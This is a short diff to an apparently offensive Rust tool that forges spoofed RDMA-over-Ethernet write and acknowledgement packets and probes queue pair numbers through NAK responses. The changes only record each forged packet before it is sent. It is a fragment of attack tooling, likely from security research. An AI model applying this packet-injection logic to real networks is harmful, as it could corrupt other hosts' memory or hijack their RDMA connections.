@@ -141,6 +141,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                 // duplicate)
                 let psn = learner.l.psn.expect("ready").add(1 + (i % 32) as u32);
                 let f = attack::forge((src_mac, sport), &req, &resp, Opcode::RC_RDMA_WRITE_ONLY, psn, ext, &[0xa5; 8]);
+                learner.sent(&f);
                 sock.send(&f)?;
                 sent += 1;
             }
@@ -179,6 +180,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                     ..ExtHeaders::default()
                 };
                 let f = attack::forge((resp.mac, resp.sport), &resp, &req, Opcode::RC_ACKNOWLEDGE, psn, ext, &[]);
+                learner.sent(&f);
                 sock.send(&f)?;
                 sent += 1;
             }
@@ -202,6 +204,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                 let psn = Psn::new(rng.next_u64() as u32 & 0xff_ffff);
                 let f =
                     attack::forge((req.mac, req.sport), &req, &resp, Opcode::RC_RDMA_WRITE_ONLY, psn, ext, &[0xa5; 8]);
+                learner.sent(&f);
                 sock.send(&f)?;
                 sent += 1;
             }
@@ -224,7 +227,9 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                 q += batch.len() as u32;
                 let before = seq_naks(&learner);
                 for &c in &batch {
-                    sock.send(&probe(c, &learner))?;
+                    let f = probe(c, &learner);
+                    learner.sent(&f);
+                    sock.send(&f)?;
                     sent += 1;
                 }
                 settle(&sock, &mut learner, &mut buf, wait)?;
@@ -234,7 +239,9 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                 // a NAK after this batch (or a late one for the last): which QPN, one at a time
                 for &c in &batch {
                     let before = seq_naks(&learner);
-                    sock.send(&probe(c, &learner))?;
+                    let f = probe(c, &learner);
+                    learner.sent(&f);
+                    sock.send(&f)?;
                     sent += 1;
                     settle(&sock, &mut learner, &mut buf, wait * 4)?;
                     if seq_naks(&learner) > before {
